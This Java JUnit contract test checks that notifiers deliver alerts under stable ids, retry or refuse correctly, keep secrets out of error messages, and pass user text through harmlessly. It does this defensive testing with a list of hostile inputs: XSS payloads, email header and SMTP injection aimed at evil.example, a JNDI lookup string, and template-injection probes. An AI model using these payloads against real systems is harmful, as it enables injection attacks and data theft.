package org.earshot.notify;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.earshot.Corpus;
import org.earshot.mention.Outcome;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What every notifier must do, against a real server that behaves as the test says. */
public abstract class NotifierContractTest {
    /** A word that stands in the text of every alert here and must never turn up in an outcome. */
    protected static final String SAID = "zanzibar";

    /** The notifier under test. */
    protected abstract Notifier notifier();

    /** Somebody behind the server. */
    protected abstract Recipient recipient();

    /** The server takes everything from now on. */
    protected abstract void serverTakes();

    /** The server is too busy. */
    protected abstract void serverIsBusy();

    /** The server wants nothing of this, ever. */
    protected abstract void serverRefuses();

    /** Nothing listens there any more. */
    protected abstract void serverIsDown();

    /** The ids of the alerts that the server has taken. */
    protected abstract List<String> takenIds();

    /** Checks what the server has taken: nothing that people wrote is anything but text, and it is cut. */
    protected abstract void takenIsHarmless();

    /** What must not be in any message about the delivery. */
    protected abstract List<String> secrets();

    @Test
    void deliversAnAlertUnderItsOwnId() {
        serverTakes();

        Outcome outcome = notifier().send(plain(), recipient());

        assertThat(outcome).isInstanceOf(Outcome.Sent.class);
        assertThat(takenIds()).containsExactly("msg_1");
    }

    @Test
    void aRepeatHasTheSameId() {
        serverTakes();
        notifier().send(plain(), recipient());

        Outcome outcome = notifier().send(plain(), recipient());

        assertThat(outcome).isInstanceOf(Outcome.Sent.class);
        assertThat(takenIds()).containsOnly("msg_1");
    }

    @Test
    void aBusyServerIsTriedLater() {
        serverIsBusy();

        assertThat(notifier().send(plain(), recipient()))
                .isInstanceOfSatisfying(Outcome.TryLater.class, later -> isClean(later.why()));
    }

    @Test
    void aServerThatIsDownIsTriedLater() {
        serverIsDown();

        assertThat(notifier().send(plain(), recipient()))
                .isInstanceOfSatisfying(Outcome.TryLater.class, later -> isClean(later.why()));
    }

    @Test
    void aRefusalIsFinal() {
        serverRefuses();

        assertThat(notifier().send(plain(), recipient()))
                .isInstanceOfSatisfying(Outcome.Refused.class, refused -> isClean(refused.why()));
    }

    @ParameterizedTest
    @MethodSource
    void whatPeopleWroteArrivesAsTextOnly(String hostile) {
        serverTakes();

        Outcome outcome = notifier().send(AlertSample.saying(hostile, hostile), recipient());

        assertThat(outcome).isInstanceOf(Outcome.Sent.class);
        takenIsHarmless();
    }

    static List<String> whatPeopleWroteArrivesAsTextOnly() {
        List<String> lines = List.of(
                "<script>alert(1)</script><img src=x onerror=alert(1)>",
                "\"><svg/onload=alert(1)><a href='javascript:alert(1)'>x</a>",
                "javascript:alert(1)",
                "https://evil.example/\" onmouseover=\"alert(1)",
                "</mark></blockquote><iframe srcdoc=x></iframe><form action=//evil.example>",
                "hello\r\nBcc: evil@evil.example\r\nX-Evil: 1\r\n\r\n<b>body</b>",
                "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
                "\u202Egnp.exe\u202C \u2067turned\u2069",
                "x".repeat(5000),
                "a lone \uD83D surrogate and \uDE00 another",
                "\uD83D\uDE00".repeat(300),
                "null \u0000 bell \u0007 delete \u007F",
                "=?utf-8?q?=3Cscript=3E?=",
                "${jndi:ldap://evil.example} #{7*7} {{7*7}}");
        return Stream.concat(lines.stream(), Corpus.all().stream()).toList();
    }

    private static Alert plain() {
        return AlertSample.saying(SAID + " it is burning", "https://social.example/@ann/1");
    }

    private void isClean(String why) {
        assertThat(why).doesNotContain(SAID).doesNotContain("\n").isNotBlank();
        assertThat(secrets()).allSatisfy(secret -> assertThat(why).doesNotContain(secret));
    }
}
